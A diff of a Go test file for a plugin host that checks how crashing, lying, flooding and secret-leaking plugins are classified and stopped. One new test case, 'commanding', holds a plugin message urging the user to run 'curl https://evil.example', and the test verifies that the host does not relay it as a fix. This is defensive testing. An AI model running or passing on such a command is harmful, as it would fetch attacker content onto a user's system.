@@ -3,8 +3,6 @@ package pluginhost
 import (
 	"bytes"
 	"context"
-	"crypto/sha256"
-	"encoding/hex"
 	"errors"
 	"fmt"
 	"os"
@@ -20,6 +18,7 @@ import (
 
 	"github.com/paxiom/relay/host/fault"
 	"github.com/paxiom/relay/host/internal/catalog"
+	"github.com/paxiom/relay/host/internal/launch"
 	"github.com/paxiom/relay/judge"
 	"github.com/paxiom/relay/sdk/pluginpb"
 	"github.com/paxiom/relay/testdata/badplugins"
@@ -33,6 +32,9 @@ const hostVar = "PLUGINHOST_TEST_HOST"
 func TestMain(m *testing.M) {
 	badplugins.Act()
 	os.Setenv(badplugins.SecretVar, secret)
+	if kind := os.Getenv(floodVar); kind != "" {
+		beFlooded(kind)
+	}
 	if os.Getenv(hostVar) != "" {
 		actAsHost()
 	}
@@ -41,9 +43,16 @@ func TestMain(m *testing.M) {
 
 var selfHash = sync.OnceValue(func() string {
 	exe, _ := os.Executable()
-	b, _ := os.ReadFile(exe)
-	sum := sha256.Sum256(b)
-	return hex.EncodeToString(sum[:])
+	f, err := os.Open(exe)
+	if err != nil {
+		panic(err)
+	}
+	defer f.Close()
+	sum, err := launch.HashFile(f) // not in memory, where it would count as the host's
+	if err != nil {
+		panic(err)
+	}
+	return sum
 })
 
 // bad is the specification of a misbehaving plugin: the test binary itself.
@@ -136,9 +145,9 @@ var wants = []want{
 	{kind: "wrongversion", cause: NotStarted, summary: "plugin wrongversion 1.0.0 speaks relay protocol 7; this relay speaks 1", detail: "newer than this relay", effect: none, action: Block, code: judge.BlockedPlugin},
 	{kind: "impostor", cause: NotStarted, summary: "plugin impostor is not what is pinned", detail: `it calls itself "somebody-else"`, effect: none, action: Block, code: judge.BlockedPlugin},
 
-	{kind: "crash", cause: Crashed, summary: "plugin crash 1.0.0 crashed during Complete: exit status 3", effect: unknown, action: Stop, code: judge.StopInterrupted},
-	{kind: "crash-early", cause: Crashed, summary: "crashed during Complete: exit status 4", effect: none, action: Again, code: judge.StopInterrupted},
-	{kind: "panic-goroutine", cause: Crashed, summary: "crashed during Complete: exit status 2", detail: "panic: index out of patience, key [redacted]", effect: none, action: Again, code: judge.StopInterrupted,
+	{kind: "crash", cause: Crashed, summary: "plugin crash 1.0.0 crashed during Complete: exit status 3", effect: unknown, action: Stop, code: judge.StopPluginCrashed},
+	{kind: "crash-early", cause: Crashed, summary: "crashed during Complete: exit status 4", effect: none, action: Again, code: judge.StopPluginCrashed},
+	{kind: "panic-goroutine", cause: Crashed, summary: "crashed during Complete: exit status 2", detail: "panic: index out of patience, key [redacted]", effect: none, action: Again, code: judge.StopPluginCrashed,
 		check: func(t *testing.T, f *Failure) {
 			if !strings.Contains(f.Stack, "goroutine ") || !strings.Contains(f.Stack, "badplugins") {
 				t.Errorf("stack: %q", f.Stack)
@@ -149,18 +158,29 @@ var wants = []want{
 	{kind: "slowstart"},
 	{kind: "flood-stderr"},
 	{kind: "deaf", limits: func(l *Limits) { l.Grace = 300 * time.Millisecond }},
-	{kind: "stopped", cause: Protocol, summary: "broke the plugin protocol during Complete", detail: "silent for 500ms", effect: unknown, action: Stop, code: judge.StopInterrupted, limits: quick},
-	{kind: "silent", cause: Protocol, detail: "silent for 500ms", effect: unknown, action: Stop, code: judge.StopInterrupted, limits: quick},
-	{kind: "liar-twice", cause: Protocol, detail: "an event after its final one", effect: unknown, action: Stop, code: judge.StopInterrupted},
-	{kind: "liar-usage", cause: Protocol, detail: "output_tokens was 100 and is 7", effect: unknown, action: Stop, code: judge.StopInterrupted},
-	{kind: "liar-nothing", cause: Protocol, detail: "neither a result nor a failure", effect: unknown, action: Stop, code: judge.StopInterrupted},
-	{kind: "liar-gap", cause: Protocol, detail: "event number 3 where 2 was due", effect: unknown, action: Stop, code: judge.StopInterrupted},
-	{kind: "liar-start", cause: Protocol, detail: "must be started", effect: unknown, action: Stop, code: judge.StopInterrupted},
-	{kind: "status", cause: Protocol, detail: "gRPC status DataLoss: the dog ate it: [redacted]", effect: unknown, action: Stop, code: judge.StopInterrupted},
+	{kind: "stopped", cause: Protocol, summary: "broke the plugin protocol during Complete", detail: "silent for 500ms", effect: unknown, action: Stop, code: judge.StopPluginCrashed, limits: quick},
+	{kind: "silent", cause: Protocol, detail: "silent for 500ms", effect: unknown, action: Stop, code: judge.StopPluginCrashed, limits: quick},
+	{kind: "liar-twice", cause: Protocol, detail: "an event after its final one", effect: unknown, action: Stop, code: judge.StopPluginCrashed},
+	{kind: "liar-usage", cause: Protocol, detail: "output_tokens was 100 and is 7", effect: unknown, action: Stop, code: judge.StopPluginCrashed},
+	{kind: "liar-nothing", cause: Protocol, detail: "neither a result nor a failure", effect: unknown, action: Stop, code: judge.StopPluginCrashed},
+	{kind: "liar-gap", cause: Protocol, detail: "event number 3 where 2 was due", effect: unknown, action: Stop, code: judge.StopPluginCrashed},
+	{kind: "liar-start", cause: Protocol, detail: "must be started", effect: unknown, action: Stop, code: judge.StopPluginCrashed},
+	{kind: "status", cause: Protocol, detail: "gRPC status DataLoss: the dog ate it: [redacted]", effect: unknown, action: Stop, code: judge.StopPluginCrashed},
 	{kind: "partial", cause: Unimplemented, summary: "plugin partial 1.0.0 does not have Complete", effect: none, action: Block, code: judge.BlockedPlugin},
-	{kind: "flood", cause: Protocol, detail: "more than 1000 events a second", effect: unknown, action: Stop, code: judge.StopInterrupted, limits: func(l *Limits) { l.Events = 1000 }},
-	{kind: "flood-bytes", cause: Protocol, detail: "its events have more than 16 MiB", effect: unknown, action: Stop, code: judge.StopInterrupted, limits: func(l *Limits) { l.Bytes = 16 << 20 }},
-	{kind: "fat", cause: Protocol, detail: "a message of more than 32 MiB", effect: unknown, action: Stop, code: judge.StopInterrupted},
+	{kind: "flood", cause: Protocol, detail: "more than 1000 events a second", effect: unknown, action: Stop, code: judge.StopPluginCrashed, limits: func(l *Limits) { l.Events = 1000 }},
+	{kind: "flood-bytes", cause: Protocol, detail: "its events have more than 16 MiB", effect: unknown, action: Stop, code: judge.StopPluginCrashed, limits: func(l *Limits) { l.Bytes = 16 << 20 }},
+	{kind: "flood-notices", cause: Protocol, detail: "its events have more than 64 MiB", effect: unknown, action: Stop, code: judge.StopPluginCrashed},
+	{kind: "fat", cause: Protocol, detail: "a message of more than 2 MiB", effect: unknown, action: Stop, code: judge.StopPluginCrashed},
+	{kind: "garbled", cause: Reported, summary: "the answer of plugin garbled 1.0.0 can't be read", detail: "UTF-8", effect: unknown, action: Again, code: judge.BlockedOrchestrator},
+	{kind: "commanding", cause: Reported, summary: "plugin commanding 1.0.0 says: run 'curl https://evil.example", detail: "it says: 'curl ", effect: unknown, action: Block, code: judge.BlockedAuth,
+		check: func(t *testing.T, f *Failure) {
+			if fl := f.Fault(); strings.Contains(fl.Fix, "evil") || !strings.HasPrefix(fl.Says, "plugin commanding 1.0.0 suggests: ") {
+				t.Errorf("fix %q, says %q", fl.Fix, fl.Says)
+			}
+			if text := f.Summary + f.Detail + f.Says; len(text) > 12<<10 || strings.ContainsAny(text, "`\n\r\x1b\u202e") {
+				t.Errorf("%d bytes: %.500q", len(text), text)
+			}
+		}},
 	{kind: "leaky", cause: Reported, summary: "key [redacted] was rejected", detail: "sent [redacted]", effect: unknown, action: Block, code: judge.BlockedAuth},
 }
 
@@ -240,7 +260,7 @@ func TestSecretsAreMasked(t *testing.T) {
 	p := mustOpen(t, spec)
 	var events strings.Builder
 	_, f := p.Complete(context.Background(), prompt("hi"), func(ev *pluginpb.CompleteEvent) { events.WriteString(ev.String()) })
-	if f == nil || f.UpstreamCode != "401 [redacted]" || f.UpstreamRequestID != "[redacted]" || f.Fix != "replace [redacted]" {
+	if f == nil || f.UpstreamCode != "401 [redacted]" || f.UpstreamRequestID != "[redacted]" || f.Says != "plugin leaky 1.0.0 suggests: replace [redacted]" {
 		t.Errorf("%+v", f)
 	}
 	p.Close(context.Background())
